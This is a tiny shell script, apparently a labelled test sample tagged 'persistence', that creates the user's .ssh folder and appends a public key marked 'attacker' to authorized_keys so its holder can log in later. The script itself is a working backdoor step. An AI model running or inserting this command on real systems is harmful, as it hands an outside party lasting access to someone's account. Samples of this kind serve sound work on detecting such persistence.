#!/bin/sh
# expect: persistence
# why: plants an SSH key for later logins
mkdir -p "$HOME/.ssh"
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl attacker' >> "$HOME/.ssh/authorized_keys"
